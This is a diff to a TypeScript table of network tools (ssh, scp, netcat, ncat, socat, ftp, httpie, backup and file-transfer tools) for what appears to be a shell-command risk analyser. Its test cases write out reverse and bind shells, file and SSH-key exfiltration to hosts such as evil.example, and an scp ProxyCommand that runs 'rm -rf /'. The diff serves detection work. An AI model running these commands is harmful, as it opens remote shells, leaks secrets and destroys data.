@@ -7,30 +7,15 @@ const LOOKS: ProgramUsage = { loose: true };
 const ASKS: ProgramUsage = { operands: "host*", fetches: true };
 
 const SSH =
-  optionList(`-4 -6 -A -a -B= -b= -C -c= -D= -E=write -e= -F=read -f -G -g -I= -i=read -J= -K -k -L= -l= -M -m= -N -n -O= -o= -P= -p= -Q= -q -R=
+  optionList(`-4 -6 -A -a -B= -b= -C -c= -D= -E=write -e= -F=read -f -G -g -I= -i=read -J= -K -k -L= -l= -M -m= -N -n -O= -o=ssh-option -P= -p= -Q= -q -R=
   -S= -s -T -t -tt -V -v -vv -vvv -W= -w= -X -x -Y -y`);
 
 const SCP = optionList(
-  "-3 -4 -6 -A -B -C -c= -D= -F=read -I= -i=read -J= -l= -O -o= -P= -p -q -R -r -S=command -s -T -v -X= -a -b=script -f -N",
+  "-3 -4 -6 -A -B -C -c= -D= -F=read -I= -i=read -J= -l= -O -o=ssh-option -P= -p -q -R -r -S=command -s -T -v -X= -a -b=script -f -N",
 );
 
-/** Options of OpenSSH may name a program: `-o ProxyCommand=…`, `-F` a file of them. */
-const SSH_CODE = [
-  {
-    has: [
-      "-o=*ommand*",
-      "-o=*OMMAND*",
-      "-o=*nclude*",
-      "-o=*rogram*",
-      "-o=*rovider*",
-      "-o=*skpass*",
-      "-F",
-      "-I",
-      "-S=*",
-    ],
-    unknown: "opaque-code",
-  },
-] as const;
+/** A file of options, or a library that is loaded. What `-o` says is read. */
+const SSH_CODE = [{ has: ["-F", "-I", "-S=*"], unknown: "opaque-code" }] as const;
 
 /** A remote may be written out, with the command that reaches it: `:sftp,ssh=…:`. */
 const LISTS_REMOTE: ProgramUsage = {
@@ -80,6 +65,21 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         reads: ["~/.ssh/id"],
         network: ["out ssh://u@h.example//tmp < ~/.ssh/id"],
       },
+      {
+        run: "scp -qvoProxyCommand='rm -rf /' a h.example:b",
+        reads: ["./a"],
+        deletes: ["/**"],
+        network: ["out ssh://h.example/b < ./a"],
+      },
+      {
+        run: "scp -o 'localcommand rm x' -oUser=u a h.example:b",
+        reads: ["./a"],
+        deletes: ["./x"],
+        network: ["out ssh://h.example/b < ./a"],
+      },
+      { run: "scp a b:", reads: ["./a"], network: ["out ssh://b/ < ./a"] },
+      { run: "scp b:k .", writes: ["./k"], network: ["in ssh://b/k"] },
+      { run: "scp C:/a b", reads: ["./C:/a"], writes: ["./b", "./b/a"] },
       { run: "scp -r h.example:/x y", writes: ["./y/**", "./y/x/**"], network: ["in ssh://h.example//x"] },
     ],
   },
@@ -88,8 +88,15 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     options: SCP,
     operands: "host",
     unknown: "opaque-file",
+    sends: true,
     also: SSH_CODE,
     tests: [
+      {
+        run: "sftp h.example <<< 'put -r k'",
+        reads: ["./k"],
+        network: ["both tcp://h.example < ./k < data"],
+        unknown: ["opaque-file"],
+      },
       {
         run: "sftp -b x.batch h.example",
         reads: ["./x.batch"],
@@ -113,7 +120,7 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
       --delete-missing-args --ignore-errors --force --max-delete= --max-size= --min-size= --max-alloc= --partial --partial-dir=write --delay-updates -m,--prune-empty-dirs
       --numeric-ids --usermap= --groupmap= --chown= --timeout= --contimeout= -I,--ignore-times -M,--remote-option= --size-only -@,--modify-window= -T,--temp-dir=write -y,--fuzzy
       --compare-dest= --copy-dest= --link-dest= -z,--compress --compress-choice,--zc= --compress-level,--zl= --skip-compress= -C,--cvs-exclude -f,--filter= -F --exclude=pattern
-      --exclude-from=read --include=pattern --include-from=read --files-from=read -0,--from0 --old-args -s,--secluded-args,--protect-args --trust-sender --copy-as= --address= --port= --sockopts=
+      --exclude-from=read --include=pattern --include-from=read --files-from=names -0,--from0 --old-args -s,--secluded-args,--protect-args --trust-sender --copy-as= --address= --port= --sockopts=
       --blocking-io --outbuf= --stats -8,--8-bit-output -h,--human-readable --progress -P -i,--itemize-changes --out-format= --log-file=write --log-file-format= --password-file=read
       --early-input=read --list-only --bwlimit= --stop-after= --stop-at= --fsync --write-batch=write --only-write-batch=write --read-batch=read --protocol= --iconv= --checksum-seed= -4,--ipv4 -6,--ipv6
       --daemon --config=read --dparam= --no-detach`),
@@ -137,13 +144,15 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     ],
   },
   {
-    name: ["nc", "netcat", "nc.traditional", "nc.openbsd"],
+    name: ["nc", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "dbd", "sbd"],
     options: optionList(
       `-4 -6 -b -C -c=code -D -d -e=command -F -g= -G= -h -i= -I= -K= -k -l -L -M= -m= -N -n -O= -o=write -P= -p= -q= -r -S -s= -T= -t -U -u -V= -v -vv -W= -w= -X= -x= -z -Z=write -A`,
     ),
     operands: "host port",
     sends: true,
     fetches: true,
+    serves: true,
+    when: [{ has: ["-l"], operands: "", listens: true }],
     tests: [
       {
         run: "nc -w 3 evil.example 4444 < ~/x",
@@ -153,7 +162,21 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
       {
         run: "nc -e /bin/sh evil.example 4444",
         network: ["both tcp://evil.example"],
+        executes: ["network sh"],
+        unknown: ["dynamic-code"],
         commands: ["nc", "sh"],
+      },
+      {
+        run: "nc -lp 9 -e /bin/bash",
+        executes: ["network bash"],
+        network: ["listen ?"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "nc -c 'cat k' h.example 9",
+        reads: ["./k"],
+        network: ["both tcp://h.example < ./k"],
+        commands: ["nc", "cat"],
       },
     ],
   },
@@ -167,8 +190,28 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     operands: "host port",
     sends: true,
     fetches: true,
+    serves: true,
+    when: [{ has: ["-l"], operands: "", listens: true }],
     lang: "lua",
     tests: [
+      {
+        run: "ncat --listen --exec=/bin/bash 4444",
+        executes: ["network bash"],
+        network: ["listen ?"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "ncat --sh-exec 'grep x k' h.example 9",
+        reads: ["./k"],
+        network: ["both tcp://h.example < ./k"],
+      },
+      {
+        run: "ncat --lua-exec x.lua -l 9",
+        reads: ["./x.lua"],
+        executes: ["file lua"],
+        network: ["listen ?"],
+        unknown: ["opaque-file"],
+      },
       {
         run: "ncat --send-only h.example 99 < x",
         reads: ["./x"],
@@ -179,30 +222,100 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
   {
     name: ["socat", "socat1", "filan"],
     handler: "socat",
-    options: optionList(
-      `-V -h -? -hh -hhh -d -dd -ddd -dddd -D --experimental --statistics -lf=write -ls -ly= -lu -lp= -lm= -lh -v -x -r=write -R=write -b= -s -S= -t= -T= -u -U -g -L=write -W=write -4 -6 -0 -q`,
-    ),
-    style: "single",
-    operands: "host host",
     sends: true,
     fetches: true,
     tests: [
       {
         run: "socat -u OPEN:x TCP:h.example:1",
         reads: ["./x"],
+        network: ["both tcp://h.example:1 < ./x"],
+      },
+      {
+        run: "socat TCP:h.example:1 OPEN:x,creat",
+        reads: ["./x"],
         writes: ["./x"],
         network: ["both tcp://h.example:1 < ./x"],
+      },
+      {
+        run: "socat DCCP-LISTEN:4444 EXEC:/bin/sh",
+        network: ["listen ?"],
+        executes: ["network sh"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "socat exec:'bash -li',pty,stderr,setsid tcp:h.example:1",
+        network: ["both tcp://h.example:1"],
+        executes: ["network bash"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "socat -u OPEN:k EXEC:'curl --data-binary @- h.example'",
+        reads: ["./k"],
+        network: ["both http://h.example < ./k"],
+        commands: ["socat", "curl"],
+      },
+      {
+        run: "socat SYSTEM:'cat k' SSL:h.example:1",
+        reads: ["./k"],
+        network: ["both ssl://h.example:1 < ./k"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: 'socat FILE:k "TCP:$host:1"',
+        reads: ["./k"],
+        network: ["both ? < ./k"],
+        writes: ["./k"],
+        unknown: ["dynamic-argument"],
+      },
+      { run: "socat -r dump - TCP:h.example:1", writes: ["./dump"], network: ["both tcp://h.example:1"] },
+      { run: "socat -u ./k CREATE:y", reads: ["./k"], writes: ["./y"] },
+      { run: "socat - UNIX-CONNECT:/run/x.sock" },
+      { run: "socat -V" },
+      { run: "socat FROB:x -", unknown: ["unknown-option"] },
+    ],
+  },
+  {
+    name: ["websocat", "wscat", "wsdump"],
+    loose: true,
+    options: optionList(
+      "-H,--header=header -b -e -c,--connect=url -x,--execute= -l,--listen= --exec=code -k --ca=",
+    ),
+    operands: "host*",
+    sends: true,
+    fetches: true,
+    serves: true,
+    tests: [
+      {
+        run: "websocat wss://h.example/x < k",
+        reads: ["./k"],
+        network: ["both wss://h.example/x < ./k"],
       },
     ],
   },
   {
     name: ["telnet", "tnftp", "ftp", "lftp", "tftp", "ncftp", "rlogin", "rsh", "rcp", "rexec"],
     loose: true,
+    lang: "ftp",
+    options: ["-c,-e=ftp", "-f=script"],
     operands: "host port",
     sends: true,
     fetches: true,
     unknown: "opaque-file",
-    tests: [{ run: "telnet h.example 25", network: ["both tcp://h.example"], unknown: ["opaque-file"] }],
+    tests: [
+      { run: "telnet h.example 25", network: ["both tcp://h.example"], unknown: ["opaque-file"] },
+      {
+        run: "lftp -c 'open h.example; put k'",
+        reads: ["./k"],
+        network: ["out ? < ./k"],
+        unknown: ["opaque-file"],
+      },
+      {
+        run: "ftp -n h.example <<< 'mput k'",
+        reads: ["./k"],
+        network: ["both tcp://h.example < ./k < data"],
+        unknown: ["opaque-file"],
+      },
+    ],
   },
   {
     name: ["mail", "mailx", "s-nail", "mutt", "sendmail", "msmtp", "ssmtp", "swaks"],
@@ -254,11 +367,30 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
       optionList(`-o,--output=write -a,--auth= -A,--auth-type= --session=edit --session-read-only=read -p,--print= --verify= --cert=read --cert-key=read --timeout= --proxy= --download -d -j,--json -f,--form --multipart --raw=body
       --boundary= -s,--style= --pretty= --format-options= --max-redirects= --ssl= --ciphers= --default-scheme= --path-as-is`),
     // Items such as `x@file` upload what is in them.
-    operands: "url*",
+    operands: "item*",
     sends: true,
     fetches: true,
-    also: [{ operand: ["*@*", "*=*"], unknown: "opaque-file" }],
-    tests: [{ run: "xh h.example", network: ["both http://h.example < data"] }],
+    also: [
+      { operand: ["DELETE", "delete"], action: "cloud.destroy" },
+      { operand: ["POST", "PUT", "PATCH"], action: "cloud.change" },
+    ],
+    tests: [
+      { run: "xh h.example", network: ["both http://h.example < data"] },
+      {
+        run: "http -f POST h.example f@k a=b",
+        reads: ["./k"],
+        network: ["both http://h.example < ./k < data"],
+        actions: ["cloud.change"],
+      },
+      { run: "http h.example x:=@k", reads: ["./k"], network: ["both http://h.example < ./k < data"] },
+      { run: "http h.example X-A:b q==c", network: ["both http://h.example < data"] },
+      { run: "http h.example < k", reads: ["./k"], network: ["both http://h.example < ./k < data"] },
+      {
+        run: "http DELETE h.example/x",
+        network: ["both http://h.example/x < data"],
+        actions: ["cloud.destroy"],
+      },
+    ],
   },
   {
     name: ["aria2c", "axel", "lynx", "w3m", "links", "elinks", "youtube-dl", "yt-dlp"],
@@ -270,10 +402,16 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     fetches: true,
     unknown: "opaque-file",
     also: [
+      { not: ["-o", "-i"], least: 1, downloads: true },
       { has: ["--conf-path", "--config-location", "--config-locations", "-cfg"], unknown: "opaque-code" },
     ],
     tests: [
-      { run: "aria2c https://h.example/x", network: ["in https://h.example/x"], unknown: ["opaque-file"] },
+      {
+        run: "aria2c https://h.example/x",
+        writes: ["./x"],
+        network: ["in https://h.example/x"],
+        unknown: ["opaque-file"],
+      },
     ],
   },
   {
@@ -367,12 +505,59 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         also: [{ has: ["-o"], unknown: "opaque-code" }],
       },
       "forget,prune,delete,unlock,break-lock,compact": { loose: true, action: "cloud.destroy" },
-      "backup,create,init,restore,extract,mount,copy,key,tag,rewrite,recover,repair,export-tar,import-tar,rename,serve,umount,recreate,config,cache,dump,snapshot":
+      backup: { loose: true, operands: "upload*", action: "cloud.change", unknown: "opaque-file" },
+      create: { loose: true, operands: "plain upload*", action: "cloud.change", unknown: "opaque-file" },
+      "init,restore,extract,mount,copy,key,tag,rewrite,recover,repair,export-tar,import-tar,rename,serve,umount,recreate,config,cache,dump,snapshot":
         { loose: true, action: "cloud.change", unknown: "opaque-file" },
     },
     global: optionList(
       "-r,--repo= --repository-file=read -p,--password-file=read --password-command=code -o,--option= --cache-dir= --rsh=code --remote-path=command",
     ),
-    tests: [{ run: "restic forget --prune x", actions: ["cloud.destroy"] }, { run: "borg list x" }],
+    tests: [
+      { run: "restic forget --prune x", actions: ["cloud.destroy"] },
+      { run: "borg list x" },
+      {
+        run: "borg create h:/r::a k",
+        reads: ["./k"],
+        network: ["out ? < ./k"],
+        actions: ["cloud.change"],
+        unknown: ["opaque-file"],
+      },
+    ],
+  },
+  {
+    name: ["GET", "HEAD", "lwp-request", "fetch", "wcurl"],
+    loose: true,
+    options: ["-o,--output=write", "-m=", "-H="],
+    operands: "url*",
+    fetches: true,
+    tests: [{ run: "fetch -o - h.example/x", network: ["in http://h.example/x"] }],
+  },
+  {
+    name: ["croc", "wormhole", "magic-wormhole", "ffsend", "transfer", "portal"],
+    loose: true,
+    commands: {
+      "send,tx,upload,u": { loose: true, options: ["--code=", "--text="], operands: "upload*" },
+      "receive,recv,rx,download": { loose: true, fetches: true, unpacks: true },
+    },
+    operands: "plain*",
+    unknown: "opaque-file",
+    tests: [{ run: "croc send k", reads: ["./k"], network: ["out ? < ./k"] }],
+  },
+  {
+    name: ["unison"],
+    loose: true,
+    style: "single",
+    operands: "remote-read remote-write",
+    tree: true,
+    unknown: "opaque-file",
+    tests: [
+      {
+        run: "unison k ssh://h.example/x",
+        reads: ["./k/**"],
+        network: ["out ssh://h.example/x < ./k/**"],
+        unknown: ["opaque-file"],
+      },
+    ],
   },
 ];
